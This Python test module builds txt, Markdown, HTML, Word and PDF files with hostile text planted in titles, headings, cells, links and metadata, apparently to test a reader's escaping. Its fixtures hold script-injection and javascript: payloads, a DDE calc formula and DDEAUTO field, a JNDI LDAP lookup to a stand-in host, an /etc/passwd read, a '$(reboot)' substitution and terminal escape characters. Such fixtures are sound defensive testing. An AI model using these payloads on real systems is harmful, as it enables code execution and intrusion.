"""Files that say something hostile in one of the fields that are shown, in every format.

1. There are four kinds of hostile words: markup that tries to run, characters that steer a terminal
   or hide words, dates and numbers that are none, and a word of a hundred thousand letters.
2. Each is put into each field of each format in turn: titles, authors, headings, words, cells,
   links and what they lead to, the words beside pictures, notes. Numbers and long words are for
   those fields alone that something is found in.
3. All files hold `WORD`, so that they can be asked for.
"""

import re
from collections.abc import Callable, Iterator
from functools import partial
from html import escape
from io import BytesIO

from docx.document import Document as WordDocument
from pypdf import PdfReader, PdfWriter
from pypdf.annotations import Link

from tests.readers import docx_making, pdf_making

WORD = "Zanzibarbarian"
"""A word that only hostile texts hold."""
WORDS = f"The {WORD} keepers count their oars at dawn, and again at dusk."
MARK, ELSEWHERE, RUN = "data-ran", "oars.invalid", "ran=1"
"""What markup is known by, once it is live: an attribute, a host, a script."""
MARKUP = " ".join(
    (
        f"<script {MARK}>window.{RUN}</script>",
        f'<img {MARK} src=//{ELSEWHERE}/x.png onerror="window.{RUN}">',
        f"<svg {MARK} onload=window.{RUN}></svg>",
        f'"><iframe {MARK} srcdoc="<script>parent.{RUN}</script>"></iframe>',
        f"</title></textarea></style></script></p></div><b {MARK}>",
        f"' {MARK}=1 onmouseover=window.{RUN} '",
        f"[a link](javascript:window.{RUN}) [one]: javascript:window.{RUN}",
        f"![a picture](https://{ELSEWHERE}/x.png) <javascript:window.{RUN}>",
        f"$\\href{{javascript:window.{RUN}}}{{x}}$ :red[red] :material/home: {{{{7*7}}}} <%= 7 %>",
        f"&lt;script {MARK}&gt;window.{RUN}&lt;/script&gt; <!-- <![CDATA[ ]]> =cmd|' /C calc'!A0",
        "%s%n%d ${jndi:ldap://" + ELSEWHERE + "/x} \\input{/etc/passwd} `$(reboot)`",
    )
)
STEERING = (
    "red \x1b[31m bell \x07 over \u202e back \x9b2J \u2066 end \u200f nul \x00 title \x1b]0;x\x07 "
    "line \u2028 para \u2029 del \x7f mark \ufeff tag \U000e0041 lone \x08\x08 ret \r over"
)
NUMBERS = (
    f"31 February 2019, 2019-13-45, 0000-00-00, 99999999999999-99-99T99:99Z, {'9' * 5_000}, 1e400, "
    "-0, NaN, ٣٤ ½ Ⅻ ², 1/0/0, the 0th, 2019/2018, 4294967296 meetings, $-1,000,,000.00.00, "
    f"on 1{',000' * 500} May 2019, 3{'.1' * 500}, article {'1.' * 300}"
)
LONG = "oars" * 25_000
FOUND_IN = ("title", "heading", "words", "cell")
_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")
Maker = Callable[[str], bytes]


def hostile_fields() -> Iterator[tuple[str, str, Callable[[], bytes]]]:
    """The name, the suffix and the bytes of each file (step 2)."""
    for suffix, fields in FIELDS.items():
        for field, make in fields.items():
            for kind, words in (("markup", MARKUP), ("steering", STEERING)):
                yield f"{suffix}: {kind} in its {field}", suffix, partial(make, words)
            for kind, words in (("numbers", NUMBERS), ("a long word", LONG)):
                if field in FOUND_IN:
                    yield f"{suffix}: {kind} in its {field}", suffix, partial(make, words)


def _plain(form: str, words: str) -> bytes:
    return form.replace("¦", words).encode()


def _page(form: str, words: str) -> bytes:
    """A web page that has words in a form, escaped as an attribute must be."""
    return _raw_page(form, escape(words))


def _raw_page(form: str, words: str) -> bytes:
    inside = form.replace("¦", words)
    head, _, body = inside.rpartition("|")
    return (
        f'<!doctype html><html lang="en"><head><meta charset="utf-8">{head}</head>'
        f"<body><main><h1>Oars</h1><p>{WORDS}</p>{body}</main></body></html>"
    ).encode()


def _word(place: str, words: str) -> bytes:
    """A Word document with words in a place."""
    words = _XML.sub("", words)
    document = docx_making.new()
    if place in ("title", "author", "subject"):
        setattr(document.core_properties, place, words[:255])
    docx_making.add_footnotes(document, escape(words) if place == "note" else "A note.")
    if place == "comment":
        docx_making.add_comments(document, escape(words))
    document.add_paragraph(words if place == "title on its page" else "Oars", "Title")
    document.add_heading(words if place == "heading" else "Counts", 1)
    docx_making.refer(document.add_paragraph(WORDS), 1)
    document.add_paragraph(words if place == "words" else "So they do.")
    document.add_paragraph(words if place == "item" else "One", "List Bullet")
    table = document.add_table(2, 2)
    docx_making.fill(table, ("Oars", "Count"), (words if place == "cell" else "Ash", "12"))
    document.sections[0].header.paragraphs[0].text = words if place == "header" else ""
    if place == "link":
        _link(document, words)
    if place == "field":
        code = escape(f' DDEAUTO c:\\\\x "{words}" ')
        run = f"<w:r><w:instrText>{code}</w:instrText></w:r>"
        docx_making.with_xml(document.add_paragraph("A field"), run)
    if place == "words beside a picture":
        picture = f'<w:r><w:pict><w:p w:alt="{escape(words)}"/></w:pict></w:r>'
        docx_making.with_xml(document.add_paragraph("A picture"), picture)
    return docx_making.saved(document)


def _link(document: WordDocument, words: str) -> None:
    """A link whose words and aim are hostile."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
    aim = document.part.relate_to(f"javascript:window.{RUN}//{words}", kind, is_external=True)
    inner = f"<w:r><w:t>{escape(words)}</w:t></w:r>"
    link = f'<w:hyperlink r:id="{aim}">{inner}</w:hyperlink>'
    docx_making.with_xml(document.add_paragraph("A link"), link)


def _pdf(place: str, words: str) -> bytes:
    """A PDF with words in a place."""
    # A line of PDF is drawn, however long it is; a page must not be drawn for minutes.
    drawn = words.replace("\x00", "").replace("\r", "")[:3_000]
    heading = pdf_making.heading(drawn if place == "heading" else "Oars")
    body = pdf_making.stacked(heading, WORDS, drawn if place == "words" else "So they do.")
    outline = [(words if place == "outline" else "Oars", 0, 0, 700.0)]
    whole = pdf_making.pdf(body, title=words if place == "title" else "Oars", outline=outline)
    writer = PdfWriter(clone_from=PdfReader(BytesIO(whole)))
    if place == "author":
        writer.add_metadata({"/Author": words, "/Subject": words, "/Keywords": words})
    if place == "page label":
        writer.set_page_label(0, 0, prefix=words)
    if place == "link":
        link = Link(rect=(72, 600, 300, 720), url=f"javascript:window.{RUN}//{drawn}")
        writer.add_annotation(0, link)
    buffer = BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


_TEXT = {
    "title": f"¦\n\nCounts\n\n{WORDS}\n",
    "heading": f"Oars\n\n{WORDS}\n\n¦\n\nSo they do.\n",
    "words": f"Oars\n\n{WORDS}\n\n¦ and so they do.\n",
}
_MARKDOWN = {
    "title": f"# ¦\n\n{WORDS}\n",
    "heading": f"# Oars\n\n## ¦\n\n{WORDS}\n",
    "words": f"# Oars\n\n{WORDS}\n\n¦\n",
    "item": f"# Oars\n\n{WORDS}\n\n- ¦\n",
    "cell": f"# Oars\n\n{WORDS}\n\n| Oars | Count |\n|--|--|\n| ¦ | 12 |\n",
    "link": f"# Oars\n\n{WORDS} [¦](x.html)\n",
    "link's aim": f"# Oars\n\n{WORDS} [a link](<javascript:¦>) [other][1]\n\n[1]: <data:¦>\n",
    "words beside a picture": f"# Oars\n\n{WORDS} ![¦](https://{ELSEWHERE}/y.png '¦')\n",
    "code": f"# Oars\n\n{WORDS}\n\n```¦\n¦\n```\n",
    "quotation": f"# Oars\n\n{WORDS}\n\n> ¦\n",
    "front matter": f"---\ntitle: ¦\nauthor: ¦\n---\n# Oars\n\n{WORDS}\n",
}
_HTML = {
    "title": "<title>¦</title><meta name=dcterms.title content='¦'>|",
    "author": "<meta name=author content='¦'><meta property=og:title content='¦'>|",
    "language": "<meta http-equiv=content-language content='¦'><html lang='¦'>|",
    "heading": "|<h2 id='¦'>¦</h2><p>So they do.</p>",
    "words": "|<p>¦</p>",
    "item": "|<ul><li>¦<li>two</ul><dl><dt>¦<dd>¦</dl>",
    "cell": "|<table><caption>¦</caption><tr><th>Oars<th>¦<tr><td>¦<td>12</table>",
    "link": "|<p>Here is <a href='javascript:¦' title='¦'>¦</a> and more.</p>",
    "words beside a picture": f"|<figure><img src='//{ELSEWHERE}/y.png' alt='¦' title='¦'>"
    "<figcaption>¦</figcaption></figure>",
    "quotation": "|<blockquote cite='¦'>¦</blockquote><q>¦</q><pre>¦</pre>",
}
_WORD = (
    *("title", "author", "subject", "title on its page", "heading", "words", "item", "cell"),
    *("note", "comment", "header", "link", "field", "words beside a picture"),
)
_PDF = ("title", "author", "outline", "heading", "words", "page label", "link")
FIELDS: dict[str, dict[str, Maker]] = {
    ".txt": {field: partial(_plain, form) for field, form in _TEXT.items()},
    ".md": {field: partial(_plain, form) for field, form in _MARKDOWN.items()},
    ".html": {
        **{field: partial(_page, form) for field, form in _HTML.items()},
        "markup itself": partial(_raw_page, "|<p>¦</p>"),
    },
    ".docx": {place: partial(_word, place) for place in _WORD},
    ".pdf": {place: partial(_pdf, place) for place in _PDF},
}
"""Who makes a file with words in a field, by format and field."""
